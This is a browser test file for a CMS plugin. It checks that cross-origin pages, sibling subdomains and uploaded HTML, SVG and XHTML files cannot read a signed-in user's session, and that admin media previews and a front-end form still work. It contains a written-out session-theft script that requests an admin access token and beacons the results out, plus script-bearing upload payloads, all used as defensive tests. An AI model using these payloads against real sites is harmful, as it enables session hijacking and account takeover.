/**
 * In a browser, where it counts: a page that somebody uploaded, a page on another port, and one of a sibling subdomain do not
 * get the session of a signed-in reader, though the browser would send it along. The admin, its previews of pictures, PDFs
 * and films, and a front end elsewhere that posts a form, work as they did.
 */
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import type { Browser, Page } from 'playwright-core';
import { openBrowser, seatIn, signIn, type Seat } from '../helpers/browser';
import { callAs, FIRST_START_MS, startDemo, type Call, type Demo } from '../helpers/demo';
import { makeOwnDemo, type OwnDemo } from '../helpers/own-demo';

/** Of one site, as a browser counts: cookies of the one go along with requests from the other. */
const [CMS, SIBLING] = ['cms.site.localhost', 'blog.site.localhost'];
const RED = '<body style="margin:0;background:#e01020;height:100vh"></body>';
const SHOT_OF_PDF = path.resolve(__dirname, 'shots/origins-4-pdf.png');
const SVG = '<svg xmlns="http://www.w3.org/2000/svg" width="90" height="60"><rect width="90" height="60" fill="#4945ff"/></svg>';

let own: OwnDemo;
let demo: Demo;
let browser: Browser;
let boss: Call;
let reader: Seat;
let elsewhere: http.Server;
let port: number;
/** What pages elsewhere got hold of. */
const got: string[] = [];

const cms = (): string => demo.url.replace('127.0.0.1', CMS);
const homeOf = (host: string): string => `http://${host}:${port}`;

/** Asks for the reader's session as the admin does, then for what the reader may see, and says what came. */
const THEFT = `
  const ask = (path, more) => fetch(cms + path, { credentials: 'include', ...more })
    .then(async (answer) => { const text = await answer.text(); tell(path + ' ' + answer.status + ' ' + text); return text; })
    .catch(() => tell(path + ' unread'));
  (async () => {
    await ask('/admin/init');
    const answer = await ask('/admin/access-token', { method: 'POST' });
    await ask('/admin/access-token', { method: 'POST', headers: { 'content-type': 'text/plain' }, body: '{}' });
    const token = answer ? JSON.parse(answer).data?.token : '';
    await ask('/form-guard/overview', { headers: { authorization: 'Bearer ' + token } });
    document.title = 'tried';
  })();`;
const theftAt = (home: string): string =>
  `const cms = '${cms()}'; const tell = (what) => void navigator.sendBeacon('${home}/got', what); ${THEFT}`;

const site = (request: http.IncomingMessage, response: http.ServerResponse): void => {
  let sent = '';
  request.on('data', (part: Buffer) => (sent += part.toString()));
  request.on('end', () => {
    if (request.url === '/got') got.push(sent);
    response.setHeader('content-type', 'text/html');
    const script = request.url === '/theft' ? `<script>${theftAt(`http://${request.headers.host}`)}</script>` : '';
    response.end(`<!doctype html><title>elsewhere</title><p>A page elsewhere.</p>${script}`);
  });
};

/** Files as the media library takes them from somebody who may upload. */
const upload = async (name: string, type: string, content: string | Buffer): Promise<string> => {
  const { body } = await boss('POST', '/admin/login', { email: demo.ada.email, password: demo.ada.password });
  const form = new FormData();
  form.append('files', new File([new Uint8Array(Buffer.from(content))], name, { type }));
  const headers = { authorization: `Bearer ${(body as { data: { token: string } }).data.token}` };
  const answer = await fetch(`${demo.url}/upload`, { method: 'POST', headers, body: form });
  const [file] = (await answer.json()) as { url: string }[];
  if (!file) throw new Error(`${name} was not taken: ${answer.status}`);
  return file.url;
};

/** A film of a second, made by the browser itself. */
const film = async (page: Page): Promise<Buffer> => {
  const bytes = await page.evaluate(async () => {
    const canvas = Object.assign(document.createElement('canvas'), { width: 160, height: 90 });
    const pen = canvas.getContext('2d') as CanvasRenderingContext2D;
    const recorder = new MediaRecorder(canvas.captureStream(20), { mimeType: 'video/webm' });
    const parts: Blob[] = [];
    recorder.ondataavailable = ({ data }) => void parts.push(data);
    recorder.start();
    for (let step = 0; step < 20; step += 1) {
      pen.fillStyle = `hsl(${step * 18} 80% 50%)`;
      pen.fillRect(0, 0, 160, 90);
      await new Promise((resolve) => setTimeout(resolve, 50));
    }
    await new Promise((resolve) => {
      recorder.onstop = resolve;
      recorder.stop();
    });
    return [...new Uint8Array(await new Blob(parts).arrayBuffer())];
  });
  return Buffer.from(bytes);
};

/** Whether the middle of a picture is. */
const isRed = (page: Page, picture: Buffer): Promise<boolean> =>
  page.evaluate(
    async (bytes) => {
      const bitmap = await createImageBitmap(new Blob([new Uint8Array(bytes)]));
      const pen = new OffscreenCanvas(bitmap.width, bitmap.height).getContext('2d') as OffscreenCanvasRenderingContext2D;
      pen.drawImage(bitmap, 0, 0);
      const [red = 0, green = 0] = pen.getImageData(bitmap.width >> 1, bitmap.height >> 1, 1, 1).data;
      return red > 150 && green < 80;
    },
    [...picture],
  );

beforeAll(async () => {
  own = makeOwnDemo();
  demo = await startDemo(own.root);
  boss = await callAs(demo, demo.ada);
  elsewhere = http.createServer(site);
  await new Promise<void>((resolve) => elsewhere.listen(0, '127.0.0.1', () => resolve()));
  ({ port } = elsewhere.address() as AddressInfo);
  browser = await openBrowser();
  const context = await browser.newContext({ viewport: { width: 1440, height: 900 }, locale: 'en-GB' });
  reader = await seatIn(context, { ...demo, url: cms() });
  await signIn(reader, demo.naima);
}, FIRST_START_MS);
afterAll(async () => {
  await browser?.close();
  await new Promise((resolve) => elsewhere.close(resolve));
  await demo?.stop();
  own?.remove();
});

/** @throws when it is not so after a while */
const until = async (isSo: () => Promise<boolean> | boolean): Promise<void> => {
  for (let tries = 0; tries < 60; tries += 1) {
    if (await isSo()) return;
    await new Promise((resolve) => setTimeout(resolve, 250));
  }
  throw new Error(`It does not come: ${isSo.toString()}`);
};

/** Another page beside the admin, with the reader's session. */
const inNewPage = async <Result>(look: (page: Page) => Promise<Result>): Promise<Result> => {
  const page = await reader.page.context().newPage();
  try {
    return await look(page);
  } finally {
    await page.close();
  }
};

test('the admin works as it did, and its page keeps its session', async () => {
  await reader.go('/admin/plugins/form-guard');
  await reader.page.getByText('Complaint').first().waitFor();
  await reader.page.reload();
  await reader.page.getByText('Complaint').first().waitFor();
  await reader.shot('origins-1-the-admin');
});

test.each([
  ['on another port of the same name', CMS],
  ['of a sibling subdomain', SIBLING],
  ['of another site', '127.0.0.1'],
])('a page %s reads nothing with the session of the reader who looks at it', async (_where, host) => {
  got.length = 0;
  await inNewPage(async (page) => {
    await page.goto(`${homeOf(host)}/theft`);
    await page.waitForFunction(() => document.title === 'tried');
    await until(() => got.length === 4);
  });
  expect(got.map((what) => what.slice(0, 60)).sort()).toEqual([
    '/admin/access-token unread',
    '/admin/access-token unread',
    '/admin/init unread',
    '/form-guard/overview unread',
  ]);
});

describe('What somebody uploaded', () => {
  let script = '';
  /** Whether a page ran it: then the admin is asked for a session. */
  const isRunBy = async (look: (page: Page) => Promise<unknown>): Promise<boolean> =>
    inNewPage(async (page) => {
      let ran = false;
      page.on('request', (request) => (ran ||= request.url().endsWith('/admin/access-token')));
      await look(page);
      await page.waitForTimeout(1_000);
      return ran;
    });
  /** A file that is downloaded is no page to go to. */
  const open = (page: Page, url: string) => page.goto(`${cms()}${url}`).catch(() => null);

  beforeAll(async () => {
    script = await upload('theft.js', 'text/javascript', `const cms = ''; const tell = () => undefined; ${THEFT}`);
  });

  test.each([
    ['a page', 'page.html', 'text/html', () => `<!doctype html><p>x</p><script src="${script}"></script>`],
    ['a drawing', 'page.svg', 'image/svg+xml', () => `<svg xmlns="http://www.w3.org/2000/svg"><script href="${script}"/></svg>`],
    [
      'an XML page',
      'page.xhtml',
      'application/xhtml+xml',
      () => `<html xmlns="http://www.w3.org/1999/xhtml"><body><script src="${script}"></script></body></html>`,
    ],
  ])('runs nothing: %s, opened and in a frame', async (_what, name, type, content) => {
    const url = await upload(name, type, content());
    expect(await isRunBy((page) => open(page, url))).toBe(false);
    const frame = `<iframe src="${url}"></iframe><object data="${url}"></object><embed src="${url}">`;
    expect(
      await isRunBy(async (page) => {
        await open(page, '/admin/favicon-none.png');
        await page.evaluate((html) => void (document.body.innerHTML = html), frame);
      }),
    ).toBe(false);
  });

  test('is no script to any page, the admin among them', async () => {
    const isLoaded = await inNewPage(async (page) => {
      await page.goto(`${cms()}/admin/auth/login`);
      return page.evaluate(
        (src) =>
          new Promise((resolve) => {
            const added = Object.assign(document.createElement('script'), { src });
            added.onload = () => resolve(true);
            added.onerror = () => resolve(false);
            document.head.append(added);
          }),
        script,
      );
    });
    expect(isLoaded).toBe(false);
  });
});

describe('The media library shows', () => {
  const open = async (name: string): Promise<void> => {
    await reader.go('/admin/plugins/upload');
    await reader.page.getByText(name).first().click();
  };

  test('pictures, SVG among them', async () => {
    await upload('drawing.svg', 'image/svg+xml', SVG);
    await upload('picture.png', 'image/png', await reader.page.screenshot());
    for (const name of ['drawing.svg', 'picture.png']) {
      await open(name);
      const picture = reader.page.locator(`[role=dialog] img[alt="${name}"]`);
      await picture.waitFor();
      await until(() => picture.evaluate((img: HTMLImageElement) => img.naturalWidth > 0));
      await reader.shot(`origins-2-${name}`);
    }
  });

  test('films', async () => {
    await upload('film.webm', 'video/webm', await film(reader.page));
    await open('film.webm');
    const shown = reader.page.locator('[role=dialog] video');
    await shown.waitFor();
    await until(() => shown.evaluate((video: HTMLVideoElement) => video.videoWidth === 160));
    await reader.shot('origins-3-film');
  });

  test('PDFs', async () => {
    // The viewer is an extension: it loads nothing where requests are looked through, as they are for everybody else here.
    const context = await browser.newContext({ viewport: { width: 1440, height: 900 } });
    const page = await context.newPage();
    await page.setContent(RED);
    await upload('paper.pdf', 'application/pdf', await page.pdf({ printBackground: true }));
    const seat = { ...reader, page, go: async (address: string) => void (await page.goto(`${cms()}${address}`)) };
    await signIn(seat, demo.naima);
    await seat.go('/admin/plugins/upload');
    await page.getByText('paper.pdf').first().click();
    const frame = page.locator('[role=dialog] iframe');
    await frame.waitFor();
    await until(async () => isRed(page, await frame.screenshot()));
    await page.screenshot({ path: SHOT_OF_PDF });
    await context.close();
  });
});

describe('A front end elsewhere', () => {
  const FORM = '/api/form-guard/forms/ideas';
  beforeAll(async () => {
    const fields = [{ name: 'idea', label: 'Your idea', type: 'text', required: true }];
    expect((await boss('POST', '/form-guard/forms', { title: 'Ideas', slug: 'ideas', fields })).status).toBe(201);
  });

  test('reads what a form asks, posts it, and reads the receipt', async () => {
    const answers = await inNewPage(async (page) => {
      await page.goto(homeOf(SIBLING));
      return page.evaluate(async (url) => {
        const described = await fetch(url);
        const headers = { 'content-type': 'application/json' };
        const sent = await fetch(`${url}/submissions`, { method: 'POST', headers, body: JSON.stringify({ idea: 'Trees' }) });
        return [described.status, sent.status, await sent.text()];
      }, `${cms()}${FORM}`);
    });
    expect(answers).toEqual([200, 201, expect.stringContaining('reference')]);
  });

  test('posts it as a plain form without a script', async () => {
    await inNewPage(async (page) => {
      await page.goto(homeOf(SIBLING));
      await page.evaluate((action) => {
        document.body.innerHTML = `<form method="post" action="${action}"><input name="idea"><button>Send</button></form>`;
      }, `${cms()}${FORM}/submissions`);
      await page.locator('input').fill('Benches');
      const answer = page.waitForResponse((response) => response.request().method() === 'POST');
      await page.getByRole('button', { name: 'Send' }).click();
      expect((await answer).status()).toBeLessThan(400);
      // The browser may hang for a minute when a page is closed that is just going to another site.
      await page.waitForURL((address) => address.hostname === CMS);
    });
    const { body } = await boss('GET', '/form-guard/overview');
    const { sources } = (body as { data: { sources: { label: string; submissions: number }[] } }).data;
    expect(sources.find(({ label }) => label === 'Ideas')).toEqual(expect.objectContaining({ submissions: 2 }));
  });
});
